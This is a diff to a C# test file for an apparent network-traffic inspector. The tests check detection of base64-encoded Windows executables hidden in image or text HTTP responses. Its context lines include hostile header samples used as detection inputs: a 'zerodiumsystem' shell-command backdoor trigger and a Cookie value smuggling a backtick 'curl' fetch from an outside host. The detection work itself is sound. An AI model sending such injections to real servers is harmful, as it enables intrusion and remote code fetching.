@@ -52,6 +52,43 @@ public class HiddenProgramTests
     [InlineData("function save(blob) { var a = document.createElement('a'); a.download = 'x.csv'; a.click(); }", false)]
     public void A_loaders_script_is_told_by_what_it_says(string text, bool loads) => Assert.Equal(loads ? HttpResponse.Script : "", HttpPeek.SentAs(Encoding.ASCII.GetBytes(text)));
 
+    private const string Head = "TVqQAAMAAAAEAAAA";
+
+    /// <summary>Behind a picture wherever it stands; in a text only backwards and at its end: articles quote a program's first letters, and lists are sorted backwards.</summary>
+    [Theory]
+    [InlineData("image/jpeg", "<<BASE64_START>>" + Head + "//8AALgAAAA", HttpResponse.InPicture)]
+    [InlineData("image/png", "AA//8AAAAEAAAAMAAQqVT", HttpResponse.InPicture)]
+    [InlineData("text/plain", "AAAAALgAA8//AAAAEAAAAMAAQqVT\r\n", HttpResponse.Backwards)]
+    [InlineData("text/plain", "a Windows program in base64 begins with " + Head, "")]
+    [InlineData("text/plain", "AAAAEAAAAMAAQqVT is how it looks backwards", "")]
+    [InlineData("text/html", "AAAAEAAAAMAAQqVT", "")]
+    [InlineData("image/jpeg", "TVqQ", "")]
+    public void A_program_far_behind_the_beginning_is_told(string type, string part, string told)
+    {
+        var state = new PeekState();
+        var peek = new PayloadPeek();
+        PeekInfo? Says(bool server, byte[] bytes) => peek.Look(ref state, server, NetHawk.Core.Packets.IpProtocol.Tcp, 40_000, 8000, bytes);
+        Says(false, "GET /a.jpg HTTP/1.1\r\nHost: x\r\n\r\n"u8.ToArray());
+        Says(true, [.. Encoding.ASCII.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: {type}\r\nContent-Length: 90000\r\n\r\n"), .. new byte[] { 0xFF, 0xD8, 0xFF, 0xE0 }, .. new byte[400]]);
+        Assert.Null(Says(true, new byte[1400]));
+        byte[] last = [.. new byte[700], .. Encoding.ASCII.GetBytes(part)];
+        Assert.Equal(told, Says(true, last) is HttpProgram program ? program.Program : "");
+
+        // Once, and never in the answer behind it.
+        Assert.Null(Says(true, last) is HttpProgram && told.Length > 0 ? told : null);
+        Says(true, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{"u8.ToArray());
+        Assert.IsNotType<HttpProgram>(Says(true, last));
+    }
+
+    [Fact]
+    public void A_program_in_the_packet_of_the_answers_header_is_told_with_it()
+    {
+        var state = new PeekState();
+        var peek = new PayloadPeek();
+        var read = peek.Look(ref state, true, NetHawk.Core.Packets.IpProtocol.Tcp, 40_000, 8000, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nAA//8AAAAEAAAAMAAQqVT"u8);
+        Assert.Equal(HttpResponse.Backwards, Assert.IsType<HttpResponse>(read).Program);
+    }
+
     [Theory]
     [InlineData("User-Agentt: zerodiumsystem(\"/bin/sh -c id\");", true)]
     [InlineData("Cookie: SESSID=`curl http://203.0.113.9/x`", true)]
